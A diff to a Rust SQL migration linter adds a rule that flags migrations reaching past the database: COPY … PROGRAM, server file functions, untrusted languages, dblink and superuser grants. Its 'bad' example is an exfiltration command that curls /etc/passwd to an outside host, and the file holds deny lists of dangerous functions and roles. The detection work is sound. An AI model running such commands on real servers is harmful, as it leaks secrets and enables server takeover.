@@ -58,7 +58,279 @@ pub static DISABLE_ROW_LEVEL_SECURITY: Rule = Rule {
     good: "ALTER POLICY documents_tenant ON documents USING (tenant_id = current_setting('app.tenant')::bigint);",
 };
 
+pub static SERVER_SIDE_ACCESS: Rule = Rule {
+    id: "server-side-access",
+    severity: Severity::Error,
+    on: true,
+    category: CATEGORY,
+    summary: "A migration runs programs or reads and writes files on the database server, loads untrusted code, changes the server's configuration, connects to other servers, or hands out those powers.",
+    why: "Migrations run with the deploy role's rights. `COPY … PROGRAM`, `pg_read_file`, `lo_import`/`lo_export`, untrusted languages (plpython3u, plperlu, C), `LOAD`, `ALTER SYSTEM`, dblink and foreign servers reach past the database to the server's files, processes and configuration or to other hosts; granting superuser or `pg_execute_server_program` hands that on. From a pull request this is how a migration reads secrets or takes over a server, and in review it is easy to miss.",
+    fix: "Do it outside migrations, in an operations job with its own audited credentials. When a migration really needs it (an extension the team vetted), say so above the statement: `-- sqlgate:ignore server-side-access -- <why it is safe>`.",
+    bad: "COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd https://example.com';",
+    good: "COPY staging_import FROM STDIN;  -- data sent by the client, not read on the server",
+};
+
+/// Functions that reach the server's files or processes, or other servers.
+const SERVER_FUNCTIONS: &[&str] = &[
+    "pg_read_file",
+    "pg_read_binary_file",
+    "pg_ls_dir",
+    "pg_stat_file",
+    "pg_ls_logdir",
+    "pg_ls_waldir",
+    "pg_ls_tmpdir",
+    "pg_ls_archive_statusdir",
+    "lo_import",
+    "lo_export",
+    "pg_file_write",
+    "pg_file_rename",
+    "pg_file_unlink",
+    "pg_file_sync",
+    "pg_logdir_ls",
+    "dblink",
+    "dblink_exec",
+    "dblink_connect",
+    "dblink_connect_u",
+    "dblink_send_query",
+    "dblink_open",
+    "pg_reload_conf",
+];
+
+/// Extensions that reach past the database (files, programs, other servers) or
+/// bring an untrusted language.
+const SERVER_EXTENSIONS: &[&str] = &[
+    "dblink",
+    "postgres_fdw",
+    "file_fdw",
+    "adminpack",
+    "plpython3u",
+    "plpythonu",
+    "plpython2u",
+    "plperlu",
+    "pltclu",
+    "plsh",
+    "pg_execute_server_program",
+];
+
+/// Languages whose code runs with the server's operating-system rights.
+const UNTRUSTED_LANGUAGES: &[&str] = &[
+    "plpython3u",
+    "plpythonu",
+    "plpython2u",
+    "plperlu",
+    "pltclu",
+    "plsh",
+    "c",
+    "internal",
+];
+
+/// Roles whose members run programs or read and write the server's files.
+const SERVER_ROLES: &[&str] = &[
+    "pg_execute_server_program",
+    "pg_read_server_files",
+    "pg_write_server_files",
+];
+
+/// Server-side access inside a function or DO body (text sqlgate does not parse).
+fn body_access(body: &str) -> Option<String> {
+    static RE: std::sync::OnceLock<Option<regex::Regex>> = std::sync::OnceLock::new();
+    let re = RE
+        .get_or_init(|| {
+            regex::Regex::new(&format!(
+                r"(?i)\b({})\s*\(|\b(?:to|from)\s+program\b|\bcopy\b[^;]*\b(?:to|from)\s+'|\balter\s+system\b",
+                SERVER_FUNCTIONS.join("|")
+            ))
+            .ok()
+        })
+        .as_ref()?;
+    re.find(body).map(|m| m.as_str().trim().to_string())
+}
+
+fn server_access(cx: &Ctx, out: &mut Vec<Finding>, what: String) {
+    cx.push(out, &SERVER_SIDE_ACCESS, -1, what, None);
+}
+
+/// `server-side-access`: what reaches past the database.
+fn server_side(cx: &Ctx, out: &mut Vec<Finding>) {
+    let node = cx.node();
+    match node {
+        NodeEnum::CopyStmt(c) if c.is_program => {
+            return server_access(cx, out, format!(
+                "COPY … {} PROGRAM runs a shell command on the database server as its operating-system user",
+                if c.is_from { "FROM" } else { "TO" }
+            ));
+        }
+        NodeEnum::CopyStmt(c) if !c.filename.is_empty() => {
+            return server_access(
+                cx,
+                out,
+                format!(
+                    "COPY … {} '{}' {} a file on the database server",
+                    if c.is_from { "FROM" } else { "TO" },
+                    c.filename,
+                    if c.is_from { "reads" } else { "writes" }
+                ),
+            );
+        }
+        NodeEnum::AlterSystemStmt(_) => {
+            return server_access(
+                cx,
+                out,
+                "ALTER SYSTEM changes the server's configuration file (postgresql.auto.conf)"
+                    .into(),
+            );
+        }
+        NodeEnum::LoadStmt(l) => {
+            return server_access(
+                cx,
+                out,
+                format!(
+                    "LOAD '{}' loads a shared library into the server process",
+                    l.filename
+                ),
+            );
+        }
+        NodeEnum::CreateExtensionStmt(e) if SERVER_EXTENSIONS.contains(&e.extname.as_str()) => {
+            return server_access(cx, out, format!(
+                "CREATE EXTENSION {} reaches past the database (other servers, files or an untrusted language)",
+                names::ident(&e.extname)
+            ));
+        }
+        NodeEnum::CreatePlangStmt(l) => {
+            return server_access(
+                cx,
+                out,
+                format!(
+                    "CREATE LANGUAGE {} installs a procedural language{}",
+                    names::ident(&l.plname),
+                    if l.pltrusted {
+                        ""
+                    } else {
+                        " whose code runs with the server's operating-system rights"
+                    }
+                ),
+            );
+        }
+        NodeEnum::CreateFdwStmt(_)
+        | NodeEnum::CreateForeignServerStmt(_)
+        | NodeEnum::CreateUserMappingStmt(_)
+        | NodeEnum::ImportForeignSchemaStmt(_) => {
+            return server_access(
+                cx,
+                out,
+                "foreign data wrappers, servers and user mappings connect this database to other servers".into(),
+            );
+        }
+        NodeEnum::CreateFunctionStmt(f) => {
+            let language = def_elems(&f.options)
+                .find(|d| d.defname == "language")
+                .and_then(string_arg)
+                .unwrap_or_default()
+                .to_ascii_lowercase();
+            let name = names::strings(&f.funcname).join(".");
+            if UNTRUSTED_LANGUAGES.contains(&language.as_str()) {
+                return server_access(cx, out, format!(
+                    "function {name} is written in {language}, which runs with the server's operating-system rights"
+                ));
+            }
+            let body = def_elems(&f.options)
+                .filter(|d| d.defname == "as")
+                .flat_map(crate::sql::ast::strings_of)
+                .find_map(|b| body_access(&b));
+            if let Some(found) = body {
+                return server_access(
+                    cx,
+                    out,
+                    format!("function {name} reaches past the database: its body uses `{found}`"),
+                );
+            }
+        }
+        NodeEnum::DoStmt(d) => {
+            let language = def_elems(&d.args)
+                .find(|a| a.defname == "language")
+                .and_then(string_arg)
+                .unwrap_or("plpgsql")
+                .to_ascii_lowercase();
+            if UNTRUSTED_LANGUAGES.contains(&language.as_str()) {
+                return server_access(
+                    cx,
+                    out,
+                    format!(
+                        "a DO block in {language} runs with the server's operating-system rights"
+                    ),
+                );
+            }
+            let body = def_elems(&d.args)
+                .filter(|a| a.defname == "as")
+                .filter_map(string_arg)
+                .find_map(body_access);
+            if let Some(found) = body {
+                return server_access(
+                    cx,
+                    out,
+                    format!("a DO block reaches past the database: it uses `{found}`"),
+                );
+            }
+        }
+        NodeEnum::GrantRoleStmt(g) if g.is_grant => {
+            let granted: Vec<String> = nodes(&g.granted_roles)
+                .filter_map(|n| match n {
+                    NodeEnum::AccessPriv(p) => Some(p.priv_name.clone()),
+                    _ => None,
+                })
+                .filter(|r| SERVER_ROLES.contains(&r.as_str()))
+                .collect();
+            if !granted.is_empty() {
+                return server_access(cx, out, format!(
+                    "GRANT {} hands out running programs or reading and writing files on the server",
+                    granted.join(", ")
+                ));
+            }
+        }
+        NodeEnum::CreateRoleStmt(r) if grants_superuser(&r.options) => {
+            return server_access(
+                cx,
+                out,
+                format!("role {} is created as a superuser", names::ident(&r.role)),
+            );
+        }
+        NodeEnum::AlterRoleStmt(r) if grants_superuser(&r.options) => {
+            let role = r
+                .role
+                .as_ref()
+                .map(|s| s.rolename.clone())
+                .unwrap_or_default();
+            return server_access(
+                cx,
+                out,
+                format!("role {} is made a superuser", names::ident(&role)),
+            );
+        }
+        _ => {}
+    }
+    // Functions anywhere in the statement: SELECT pg_read_file(…), lo_export(…), dblink(…).
+    for (n, ..) in node.nodes() {
+        if let pg_query::NodeRef::FuncCall(f) = n {
+            let name = names::strings(&f.funcname)
+                .last()
+                .cloned()
+                .unwrap_or_default()
+                .to_lowercase();
+            if SERVER_FUNCTIONS.contains(&name.as_str()) {
+                return server_access(cx, out, format!(
+                    "{name}() reaches past the database: the server's files or processes, or another server"
+                ));
+            }
+        }
+    }
+}
+
+fn grants_superuser(options: &[pg_query::protobuf::Node]) -> bool {
+    def_elems(options).any(|d| d.defname == "superuser" && bool_arg(d))
+}
+
 pub fn check(cx: &Ctx, _: &mut MigrationState, out: &mut Vec<Finding>) {
+    server_side(cx, out);
     match cx.node() {
         NodeEnum::CreateRoleStmt(r) => password(cx, &r.options, &r.role, out),
         NodeEnum::AlterRoleStmt(r) => {
